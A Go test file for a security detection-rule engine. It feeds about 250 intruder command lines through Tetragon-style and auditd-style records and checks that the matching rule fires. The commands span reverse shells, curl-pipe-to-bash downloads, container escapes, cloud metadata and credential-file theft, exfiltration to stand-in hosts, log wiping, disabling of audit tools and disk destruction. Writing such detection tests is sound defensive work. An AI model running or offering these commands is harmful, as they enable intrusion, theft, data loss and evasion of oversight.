package rules_test

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"amber/timeline/detect"
	"amber/timeline/detect/fields"
)

// commands are command lines as intruders type them, each with the rule that is
// to find it; the first word is the program.
const commands = `
nsenter_into_host|/usr/bin/nsenter -t 1 -m -u -n -i sh
nsenter_into_host|/usr/bin/nsenter --target 1 --mount --uts --ipc --net --pid -- bash
nsenter_into_host|/usr/bin/nsenter --mount=/host/proc/1/ns/mnt -- sh
nsenter_into_host|/bin/busybox nsenter -t 1 -a sh
chroot_into_host|/usr/sbin/chroot /host /bin/bash
chroot_into_host|/usr/sbin/chroot /mnt sh
chroot_into_host|/bin/sh -c "chroot /rootfs /bin/sh -c 'id'"
host_reached_through_proc|/bin/ls /proc/1/root/etc
host_reached_through_proc|/bin/cat /proc/1/root/etc/shadow
kernel_helper_escape|/bin/sh -c "echo /cmd > /tmp/cgrp/release_agent"
kernel_helper_escape|/bin/sh -c "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"
kernel_helper_escape|/bin/sh -c "echo /cmd > /sys/kernel/uevent_helper"
host_disk_mounted|/bin/mount /dev/sda1 /mnt/host
host_disk_mounted|/bin/mount -o ro /dev/nvme0n1p1 /tmp/x
host_disk_mounted|/sbin/debugfs -w /dev/vda1
runtime_socket_spoken_to|/usr/bin/curl --unix-socket /var/run/docker.sock http://localhost/containers/json
runtime_socket_spoken_to|/usr/bin/docker -H unix:///host/var/run/docker.sock ps
runtime_socket_spoken_to|/usr/bin/ctr --address /run/containerd/containerd.sock containers ls
runtime_socket_spoken_to|/usr/bin/crictl --runtime-endpoint unix:///run/containerd/containerd.sock ps
runtime_socket_spoken_to|/usr/bin/ctr -a /host/run/containerd/containerd.sock images ls
privileged_container_by_client|/usr/bin/docker run --rm -it --privileged alpine sh
privileged_container_by_client|/usr/bin/docker run -v /:/host alpine chroot /host
privileged_container_by_client|/usr/bin/docker run --pid=host --net=host alpine sh
privileged_container_by_client|/usr/bin/podman run --privileged alpine
user_namespace_made|/usr/bin/unshare -Urm sh
user_namespace_made|/usr/bin/unshare --user --map-root-user bash
user_namespace_made|/usr/bin/unshare -UrmC bash
kernel_module_loaded|/sbin/insmod /tmp/rootkit.ko
kernel_module_loaded|/sbin/insmod diamorphine.ko
image_built_on_host|/usr/bin/docker build -t x .
image_built_on_host|/usr/bin/buildah bud -t x .
container_client_used|/tmp/kubectl get secrets -A
container_client_used|/usr/local/bin/kubectl auth can-i --list
container_client_used|/usr/local/bin/kubectl exec -it web-0 -- sh
container_client_used|/usr/local/bin/kubectl get pods --all-namespaces
miner|/tmp/xmrig -o pool.example.com:3333 -u wallet -p x --donate-level 1
miner|/usr/local/bin/worker --url stratum+tcp://pool.example.com:443 --user w
miner|/tmp/kdevtmpfsi
miner|/opt/app --algo rx/0 -o pool.supportxmr.com:443
download_piped_to_shell|/bin/sh -c "curl -fsSL http://198.51.100.7/i.sh | bash"
download_piped_to_shell|/bin/bash -c "wget -qO- http://example.com/x|sh"
download_piped_to_shell|/bin/bash -c "curl http://example.com/x.py | python3"
download_piped_to_shell|/bin/bash -c "bash <(curl -s http://example.com/x)"
download_piped_to_shell|/bin/bash -c "curl -s http://example.com/x | sudo bash -s --"
download_piped_to_shell|/bin/sh -c "(curl -s example.com/a||wget -qO- example.com/a)|bash"
download_made_executable|/bin/sh -c "wget http://example.com/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"
download_made_executable|/bin/sh -c "curl -o /tmp/k http://example.com/k; chmod 777 /tmp/k; /tmp/k"
decoded_and_run|/bin/bash -c "echo aWQK | base64 -d | bash"
decoded_and_run|/bin/sh -c "echo aWQK|base64 --decode|sh"
decoded_and_run|/usr/bin/python3 -c "import base64;exec(base64.b64decode('aWQ='))"
reverse_shell|/bin/bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
reverse_shell|/bin/nc 198.51.100.7 4444 -e /bin/sh
reverse_shell|/bin/nc -e /bin/bash 198.51.100.7 4444
reverse_shell|/usr/bin/ncat 198.51.100.7 4444 --exec /bin/bash
reverse_shell|/usr/bin/python3 -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('198.51.100.7',4444));os.dup2(s.fileno(),0)"
reverse_shell|/usr/bin/perl -e "use Socket;$i='198.51.100.7';socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,x)"
reverse_shell|/bin/sh -c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"
reverse_shell|/usr/bin/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.7:4444
reverse_shell|/usr/bin/php -r "$sock=fsockopen('198.51.100.7',4444);exec('sh <&3 >&3 2>&3');"
reverse_shell|/usr/bin/ruby -rsocket -e "f=TCPSocket.new('198.51.100.7',4444)"
reverse_shell|/bin/sh -c "exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5"
reverse_shell|/usr/bin/python3 -c "import pty;pty.spawn('/bin/bash')"
reverse_shell|/bin/busybox nc 198.51.100.7 4444 -e sh
run_from_writable_directory|/tmp/x
run_from_writable_directory|/dev/shm/.x/k
run_from_memory|/memfd:x (deleted)
run_from_memory|/proc/self/fd/4
run_from_memory|/dev/fd/5
hidden_program|/var/tmp/.cache-x/run
hidden_program|/tmp/.x
service_account_token_read|/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token
service_account_token_read|/bin/ls /run/secrets/kubernetes.io/serviceaccount/
service_account_token_read|/bin/sh -c "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"
service_account_token_read|/usr/bin/curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default/api
metadata_service_asked|/usr/bin/curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
metadata_service_asked|/usr/bin/wget -qO- http://169.254.170.2/v2/credentials
metadata_service_asked|/usr/bin/curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
metadata_service_asked|/usr/bin/curl -X PUT http://169.254.169.254/latest/api/token
credential_file_read|/bin/cat /root/.aws/credentials
credential_file_read|/bin/cat /home/app/.kube/config
credential_file_read|/bin/cp /root/.ssh/id_rsa /tmp/x
credential_file_read|/bin/cat /etc/kubernetes/admin.conf
credential_file_read|/bin/cat /root/.docker/config.json
credential_file_read|/bin/cat /root/.config/gcloud/application_default_credentials.json
shadow_read|/bin/cat /etc/shadow
shadow_read|/usr/bin/head -1 /etc/shadow
credentials_searched|/usr/bin/find / -name id_rsa
credentials_searched|/bin/grep -rni password /etc
credentials_searched|/bin/grep -r "AKIA" /
credentials_searched|/usr/bin/find / -name "*.pem"
credentials_searched|/bin/grep -R aws_secret_access_key /home
process_memory_read|/usr/bin/gdb -p 77
process_memory_read|/usr/bin/strace -f -e trace=read -p 77
process_memory_read|/bin/cat /proc/77/environ
cron_changed_by_command|/bin/sh -c "(crontab -l; echo '* * * * * /tmp/x') | crontab -"
cron_changed_by_command|/bin/sh -c "echo '* * * * * root /tmp/x' >> /etc/crontab"
cron_changed_by_command|/bin/sh -c "echo x > /etc/cron.d/y"
authorized_keys_changed_by_command|/bin/sh -c "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"
authorized_keys_changed_by_command|/usr/bin/tee -a /root/.ssh/authorized_keys
service_made_by_command|/bin/sh -c "cat > /etc/systemd/system/x.service"
service_made_by_command|/bin/cp x.service /etc/systemd/system/
service_made_by_command|/usr/bin/tee /etc/systemd/system/x.service
preload_by_command|/bin/sh -c "echo /usr/lib/libx.so > /etc/ld.so.preload"
user_added_with_rights|/usr/sbin/usermod -aG sudo eve
user_added_with_rights|/usr/sbin/useradd -o -u 0 -g 0 -M eve
user_added_with_rights|/bin/sh -c "echo 'eve:x:0:0:root:/root:/bin/bash' >> /etc/passwd"
user_added_with_rights|/usr/sbin/useradd -m -G docker eve
setuid_made|/bin/chmod u+s /bin/bash
setuid_made|/bin/chmod 4755 /tmp/sh
setuid_made|/bin/chmod +s /tmp/sh
setuid_made|/sbin/setcap cap_setuid+ep /usr/bin/python3
logs_wiped|/bin/rm -rf /var/log/nginx
logs_wiped|/bin/rm -f /var/log/auth.log
logs_wiped|/usr/bin/truncate -s 0 /var/log/syslog
logs_wiped|/bin/sh -c "echo > /var/log/wtmp"
logs_wiped|/bin/sh -c "cat /dev/null > /var/log/messages"
logs_wiped|/usr/bin/shred -u /var/log/audit/audit.log
logs_wiped|/usr/bin/journalctl --vacuum-time=1s
history_cleared|/bin/bash -c "history -c"
history_cleared|/bin/rm -f /root/.bash_history
history_cleared|/bin/ln -sf /dev/null /root/.bash_history
history_cleared|/bin/sh -c "unset HISTFILE"
history_cleared|/bin/bash -c "export HISTFILE=/dev/null"
history_cleared|/bin/sh -c "> ~/.bash_history"
defences_switched_off|/usr/bin/systemctl stop falco
defences_switched_off|/usr/bin/systemctl disable --now auditd
defences_switched_off|/usr/sbin/setenforce 0
defences_switched_off|/usr/sbin/iptables -F
defences_switched_off|/usr/bin/pkill -9 tetragon
defences_switched_off|/usr/sbin/ufw disable
defences_switched_off|/sbin/auditctl -e 0
defences_switched_off|/usr/sbin/service rsyslog stop
file_made_immutable|/usr/bin/chattr +i /etc/cron.d/x
times_forged|/usr/bin/touch -r /bin/ls /bin/x
times_forged|/usr/bin/touch -t 202001010000 /usr/bin/x
network_scanned|/usr/bin/nmap -sS 10.0.0.0/24
network_scanned|/usr/bin/masscan 10.0.0.0/8 -p6379
network_scanned|/bin/nc -zv 10.0.0.7 1-1000
network_scanned|/bin/sh -c "for i in $(seq 1 254); do ping -c 1 10.0.0.$i; done"
attack_tool|/tmp/linpeas.sh
attack_tool|/bin/sh /tmp/linpeas.sh -a
attack_tool|/tmp/cdk evaluate --full
attack_tool|/tmp/peirates
attack_tool|/tmp/pspy64
attack_tool|/usr/bin/amicontained
attack_package_installed|/sbin/apk add nmap
attack_package_installed|/usr/bin/apt-get install -y netcat-openbsd
attack_package_installed|/usr/bin/apt install -y socat
attack_package_installed|/usr/bin/yum install -y nmap-ncat
attack_package_installed|/sbin/apk --no-cache add socat
tunnel|/usr/bin/ssh -fN -R 2222:localhost:22 user@example.com
tunnel|/usr/bin/ssh -D 1080 user@example.com
tunnel|/tmp/chisel client example.com:8080 R:socks
tunnel|/tmp/frpc -c frpc.ini
tunnel|/usr/local/bin/ngrok tcp 22
tunnel|/usr/local/bin/cloudflared tunnel run
fetched_from_bare_address|/usr/bin/wget http://198.51.100.7/x -O /tmp/x
fetched_from_bare_address|/usr/bin/curl -O http://198.51.100.7:8080/x
fetched_from_bare_address|/usr/bin/curl https://pastebin.com/raw/abcd
file_sent_out|/usr/bin/curl -F file=@/etc/passwd http://example.com
file_sent_out|/usr/bin/curl -T /data/dump.sql ftp://example.com
file_sent_out|/usr/bin/curl -X POST --data-binary @/etc/passwd http://example.com
file_sent_out|/usr/bin/wget --post-file=/etc/passwd http://example.com
file_sent_out|/usr/bin/scp /data/dump.sql eve@example.com:/tmp
archive_for_sending|/bin/tar czf /tmp/x.tgz /root/.ssh /etc
archive_for_sending|/usr/bin/zip -r /tmp/x.zip /home
archiver_of_foreign_format|/usr/bin/7z a loot.7z /data
data_destroyed|/bin/rm -rf --no-preserve-root /
data_destroyed|/bin/rm -rf /var/lib/mysql
data_destroyed|/bin/dd if=/dev/zero of=/dev/sda
data_destroyed|/usr/sbin/mkfs.ext4 /dev/sda1
data_destroyed|/usr/bin/shred -n 1 -z /data/x
denial_of_service_tool|/usr/sbin/hping3 --flood -S example.com
bandwidth_sold|/usr/local/bin/cli start accept --token x --traffmonetizer
hidden_file_removed|/bin/rm -f /tmp/.p /tmp/.kc
sensitive_file_linked|/bin/ln -s /etc/shadow /app/static/x
decoded_and_run|/bin/sh -c "echo aWQK | busybox base64 -d | busybox sh"
download_piped_to_shell|/bin/sh -c "curl${IFS}-s${IFS}http://example.com/x|sh"
download_piped_to_shell|/bin/sh -c "wget -qO- http://example.com/x | busybox ash"
download_piped_to_shell|/usr/bin/python3 -c "import urllib.request;exec(urllib.request.urlopen('http://example.com/x').read())"
reverse_shell|/usr/bin/nc 198.51.100.7 4444 -c bash
reverse_shell|/usr/bin/socat TCP:198.51.100.7:4444 EXEC:/bin/bash,pty,stderr
reverse_shell|/usr/bin/awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/4444";while(1)s|&getline c}'
process_memory_read|/bin/dd if=/dev/mem of=/tmp/m
process_memory_read|/bin/cp /proc/kcore /tmp/k
file_sent_out|/usr/bin/rclone copy /data remote:x
service_made_by_command|/usr/bin/systemctl enable --now /tmp/x.service
container_client_used|/usr/local/bin/crictl exec -it abc sh
kernel_helper_escape|/bin/mount -t cgroup -o rdma cgroup /tmp/cgrp
setuid_files_searched|/usr/bin/find / -perm -4000 -type f
shadow_read|/bin/cat /etc/./shadow
setuid_made|/bin/chmod ug=rwxs /tmp/s
setuid_made|/bin/chmod g+s,u+s /tmp/s
setuid_made|/usr/bin/install -m 4755 /bin/sh /tmp/s
logs_wiped|/bin/cp /dev/null /var/log/auth.log
logs_wiped|/usr/bin/find /var/log -type f -delete
logs_wiped|/bin/sed -i /203/d /var/log/auth.log
logs_wiped|/bin/dd if=/dev/null of=/var/log/syslog
defences_switched_off|/etc/init.d/auditd stop
user_added_with_rights|/usr/sbin/useradd --uid 0 --non-unique eve
user_added_with_rights|/bin/sh -c "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"
user_added_with_rights|/bin/sh -c "echo root:x | chpasswd"
cron_changed_by_command|/bin/cp x /etc/cron.hourly/x
cron_changed_by_command|/bin/sh -c "echo /tmp/k | at now + 1 minute"
network_scanned|/usr/bin/fping -a -g 10.0.0.0/24
reverse_shell|/bin/sh -c "telnet 198.51.100.7 4444 | /bin/bash | telnet 198.51.100.7 4445"
reverse_shell|/bin/busybox telnetd -l /bin/sh -p 4444
reverse_shell|/usr/bin/nc 198.51.100.7 4444 -e/bin/sh
reverse_shell|/usr/bin/node -e "require('net').connect(4444,'h',function(){this.pipe(require('child_process').spawn('sh').stdin)})"
file_sent_out|/bin/sh -c "tar c /data | nc 198.51.100.7 4444"
file_sent_out|/bin/bash -c "cat /data/x > /dev/tcp/198.51.100.7/443"
script_from_shared_memory|/bin/sh /dev/shm/x
setuid_files_searched|/usr/bin/find / -user root -perm -u=s
kubelet_asked_by_command|/usr/bin/curl -k https://10.0.0.5:10250/run/kube-system/a/b -d cmd=id
kubelet_asked_by_command|/usr/bin/etcdctl get /registry/secrets --prefix
shell_profile_changed_by_command|/bin/sh -c "echo '/tmp/k &' >> /root/.bashrc"
setuid_files_searched|/usr/sbin/getcap -r /
user_added_with_rights|/bin/sed -i s/env_reset.*$/env_reset,timestamp_timeout=-1/ /etc/sudoers
defences_switched_off|/bin/sed -i "$ d" /etc/audit/audit.rules
defences_switched_off|/bin/sed -i "/^\$ModLoad imfile/d" /etc/rsyslog.conf
defences_switched_off|/usr/sbin/iptables -t nat -F
defences_switched_off|/usr/bin/systemctl stop elastic-agent
tunnel|/usr/bin/curl -s http://abcdefghijklmnopqrstuvwxyz234567.onion/x
tunnel|/usr/bin/autossh -M 0 -fN -R 2222:localhost:22 user@example.com
shell_by_helper|/usr/bin/sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
shell_by_helper|/usr/bin/lua -e "os.execute('/bin/sh')"
shell_by_helper|/usr/bin/ruby -e "exec '/bin/sh'"
shell_by_helper|/usr/bin/php -r "system('/bin/sh');"
shell_by_helper|/usr/bin/node -e "require('child_process').spawn('/bin/sh',{stdio:[0,1,2]})"
shell_by_helper|/usr/bin/mysql -e "\! /bin/sh"
shell_by_helper|/usr/bin/expect -c "spawn /bin/sh;interact"
shell_by_helper|/usr/bin/gcc -wrapper /bin/sh,-s .
shell_by_helper|/usr/bin/ssh -o ProxyCommand=";sh 0<&2 1>&2" x
shell_by_helper|/usr/bin/sudo env /bin/sh
shell_by_helper|/usr/bin/sudo nice /bin/bash -p
shell_by_helper|/usr/bin/sudo strace -o /dev/null /bin/sh
shell_by_helper|/usr/bin/sudo capsh --
shell_by_helper|/usr/bin/script -qc /bin/bash /dev/null
exploit_run|/usr/bin/sudo -u#-1 /bin/bash
exploit_run|/usr/bin/sudo -R woot woot
service_made_by_command|/bin/sh -c "echo x > /etc/polkit-1/rules.d/00-a.rules"
service_made_by_command|/usr/bin/python3 -c "open('/usr/lib/python3/dist-packages/zz.pth','w').write('import os')"
decoded_and_run|/bin/sh -c "xxd -r -p /tmp/h.txt > /tmp/h && chmod +x /tmp/h && /tmp/h"
host_disk_mounted|/bin/sh -c "d=$(fdisk -l | grep -m1 /dev/); mount ${d}1 /h"
passwords_sniffed|/usr/bin/ngrep -q password port 80
keystrokes_recorded|/bin/bash -c "export PROMPT_COMMAND='history -a >(tee -a /tmp/h)'"
remote_management_joined|/usr/bin/anydesk --set-password
service_account_given_group|/usr/bin/gpasswd -a www-data docker
rival_miner_killed|/bin/sh -c "ps aux | grep -v grep | grep 'javaup\|kinsing' | awk '{print $2}' | xargs -I % kill -9 %"
reverse_shell|/bin/zsh -c "zmodload zsh/net/tcp && ztcp 198.51.100.7 4444"
setuid_made|/usr/bin/install -m =xs /usr/bin/docker .
shell_by_helper|/usr/bin/perl -e "use POSIX qw(setuid); POSIX::setuid(0); exec '/bin/sh';"
shell_by_helper|/usr/bin/sudo git -c "core.pager=/bin/sh -c 'sh 0<&1'" -p help
shell_by_helper|/usr/bin/sudo rsync -e "sh -c 'sh 0<&2'" h:/dev/null
shell_by_helper|/usr/bin/sudo zip /tmp/x.zip /etc/hosts -T -TT "sh #"
shell_by_helper|/usr/bin/sudo make -s --eval=x:-/bin/sh
user_added_with_rights|/usr/bin/sudo dd of=/etc/sudoers.d/x
hidden_file_made_executable|/bin/mount -o remount,exec /dev/shm
ssh_server_of_own|/bin/sed -i "s/^#*PermitRootLogin.*/PermitRootLogin yes/" /etc/ssh/sshd_config
data_destroyed|/bin/rm -rf /var/backups /backup
redis_made_to_write|/usr/bin/redis-cli -h h module load /tmp/exp.so
sensitive_file_linked|/bin/ln -s / /var/log/host/root_link
system_tool_renamed|/bin/cp /bin/sh /tmp/crond
logs_wiped|/bin/bash -c "echo 0> /var/spool/mail/root"
logs_wiped|/bin/mount --bind /dev/null /root/.bash_history
defences_switched_off|/sbin/chkconfig rsyslog off
defences_switched_off|/bin/mv /usr/sbin/auditd /usr/sbin/auditd.bak
defences_switched_off|/sbin/iptables -A OUTPUT -p tcp --dport 514 -j DROP
service_made_by_command|/bin/sh -c "echo x > ~/.config/autostart/u.desktop"
service_made_by_command|/bin/sed -i "s#GRUB_CMDLINE_LINUX=#&init=/opt/init#" /etc/default/grub
user_added_with_rights|/bin/sed -i s/^root:x:/root::/ /etc/passwd
passwords_sniffed|/sbin/ip link set eth0 promisc on
file_sent_out|/usr/bin/php -S 0.0.0.0:8000 -t /etc
file_sent_out|/usr/bin/lftp -c "open -u x,y 198.51.100.7; put /tmp/l.tgz"
shell_by_helper|/sbin/capsh --gid=0 --uid=0 --
data_destroyed|/usr/bin/mongosh --eval "db.getMongo().getDBNames().forEach(n=>db.getSiblingDB(n).dropDatabase())"
passwords_tried_by_loop|/bin/sh -c "for h in $(cat /tmp/hosts); do sshpass -p root ssh root@$h id; done"
passwords_sniffed|/usr/bin/tshark -i eth0 -Y http.authorization -T fields -e http.authorization
`

func process(line string) []byte {
	binary, arguments, _ := strings.Cut(line, " ")
	e := map[string]any{
		"process_exec": map[string]any{
			"process": map[string]any{"exec_id": "bm9kZS0xOjE6MTA=", "pid": 4242, "binary": binary, "arguments": arguments, "start_time": "2026-03-01T10:00:00Z"},
			"parent":  map[string]any{"exec_id": "bm9kZS0xOjE6OQ==", "pid": 4000, "binary": "/usr/bin/parent"},
		},
		"node_name": "node-1", "time": "2026-03-01T10:00:00.123456789Z",
	}
	text, err := json.Marshal(e)
	if err != nil {
		return nil
	}
	return append(text, '\n')
}

// matched are the names of the rules that match a record.
func matched(t *testing.T, source string, text []byte) (names []string) {
	t.Helper()
	ev := compiled().Evaluator()
	err := fields.Read(sources[source], bytes.NewReader(text), func(v *fields.View) {
		ev.Match(v, func(_ int32, m detect.Matcher) {
			p := strings.TrimSuffix(m.Rule().Path, ".yml")
			names = append(names, p[strings.LastIndexByte(p, '/')+1:])
		})
	})
	if err != nil {
		t.Fatal(err)
	}
	return names
}

// What intruders type is found, in Tetragon's records and in auditd's.
func TestCommands(t *testing.T) {
	for _, line := range strings.Split(strings.TrimSpace(commands), "\n") {
		rule, command, _ := strings.Cut(line, "|")
		if names := matched(t, "tetragon", process(command)); !slices.Contains(names, rule) {
			t.Errorf("%s does not find: %s (%v)", rule, command, names)
		}
		binary, arguments, _ := strings.Cut(command, " ")
		if names := matched(t, "auditd", execve(binary, arguments)); !slices.Contains(names, rule) {
			t.Errorf("%s does not find of auditd: %s (%v)", rule, command, names)
		}
	}
}
